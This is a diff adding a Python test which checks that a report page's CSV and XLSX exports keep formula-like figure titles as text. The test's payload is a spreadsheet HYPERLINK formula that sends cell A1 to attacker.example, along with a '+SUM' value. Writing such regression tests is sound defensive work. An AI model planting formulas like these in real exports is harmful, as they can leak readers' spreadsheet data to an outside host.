@@ -241,3 +241,29 @@ def test_a_correction_is_a_new_version_and_the_frozen_one_stays_readable(
             narrative="Visits went well.",
             note="Again.",
         )
+
+
+def test_a_title_that_looks_like_a_formula_stays_text_in_the_csv_and_spreadsheet(client, home_page):
+    """A theme titled "=HYPERLINK(...)" became a formula that a reader's spreadsheet ran."""
+    formula = '=HYPERLINK("http://attacker.example/?"&A1,"Open")'
+    figure = {
+        "key": "themes",
+        "title": "Themes and what they rest on",
+        "level": "",
+        "scale": False,
+        "totals": True,
+        "rows": [formula, "+SUM(1,2)"],
+        "columns": ["Excerpts"],
+        "cells": [[7, 7], [8, 8], [15, 15]],
+        "means": [None, None],
+    }
+    page = home_page.add_child(
+        instance=EvaluationReportPage(title="Report", slug="report", year=2020, figures=[figure])
+    )
+    rows = list(csv.reader(io.StringIO(client.get(f"{page.url}csv/").content.decode())))
+    labels = [row[0] for row in rows if row]
+    assert "'" + formula in labels and "'+SUM(1,2)" in labels
+    assert formula not in labels
+    sheet = openpyxl.load_workbook(io.BytesIO(client.get(f"{page.url}xlsx/").content)).active
+    cells = {cell.value: cell.data_type for row in sheet.iter_rows() for cell in row if cell.value}
+    assert cells[formula] == "s" and cells["+SUM(1,2)"] == "s"  # text, not a formula
